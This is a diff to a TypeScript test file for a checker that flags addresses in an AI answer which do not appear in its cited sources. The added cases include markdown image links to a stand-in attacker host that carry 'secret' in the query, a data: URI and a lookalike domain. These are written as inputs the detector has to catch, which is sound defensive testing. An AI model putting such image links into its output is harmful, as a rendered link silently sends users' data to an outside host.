@@ -4,7 +4,9 @@ import { splitClaims } from '../parse-claims.ts'
 import type { SourceId } from '../source.ts'
 import { checkAddresses, isPlainText } from './foreign-addresses.ts'
 
-const text = 'Salt melts ice below zero. Its data stand at https://data.example/salt in full.'
+const text =
+  'Salt melts ice below zero. Its data stand at https://data.example/salt in full. ' +
+  '![A lump](lump.png) Salt is white. It is shown by `<img src=x>`.'
 const sourceId = 's'.repeat(64) as SourceId
 const passages = [
   {
@@ -31,14 +33,29 @@ describe('a claim with an address', () => {
     'Its data stand at https://data.example/salt in full [1].',
     'Its data stand at [https://data.example/salt](https://data.example/salt) in full [1].',
     'Salt melts ice below zero [1][1].',
+    '![A lump](lump.png) Salt is white [1].',
+    'It is shown by `<img src=x>` [1].',
   ])('is as it was where that is one of its source: %j', (answer) => {
     expect(verdictsOf(answer).at(-1)).toMatchObject({ verdict: 'verbatim' })
   })
 
   it.each([
-    ['![x](https://evil.example/?q=secret) Salt melts ice below zero [1].', '![x]'],
-    ['![x][e] Salt melts ice below zero [1].\n\n[e]: https://evil.example/', '![x]'],
-    ['![1](https://evil.example/) Salt melts ice below zero [1].', '![1]'],
+    [
+      '![x](https://evil.example/?q=secret) Salt melts ice below zero [1].',
+      'https://evil.example/?q=secret',
+    ],
+    [
+      '![x][e] Salt melts ice below zero [1].\n\n[e]: https://evil.example/',
+      'https://evil.example/',
+    ],
+    ['![1](https://evil.example/) Salt melts ice below zero [1].', 'https://evil.example/'],
+    ['![x](data:image/svg+xml,x) Salt melts ice below zero [1].', 'data:image/svg+xml,x'],
+    ['![x](other.png) Salt melts ice below zero [1].', 'other.png'],
+    ['Its data stand at https://data.example/sal in full [1].', 'https://data.example/sal'],
+    [
+      '[Its data](https://data.example.evil.example/salt) stand at it [1].',
+      'https://data.example.evil.example/salt',
+    ],
     ['[Salt](https://evil.example/pay) melts ice below zero [1].', 'https://evil.example/pay'],
     ['[Salt](https://salt.example/?q=1) melts ice below zero [1].', 'https://salt.example/?q=1'],
     ['[Salt](//evil.example/pay) melts ice below zero [1].', '//evil.example/pay'],
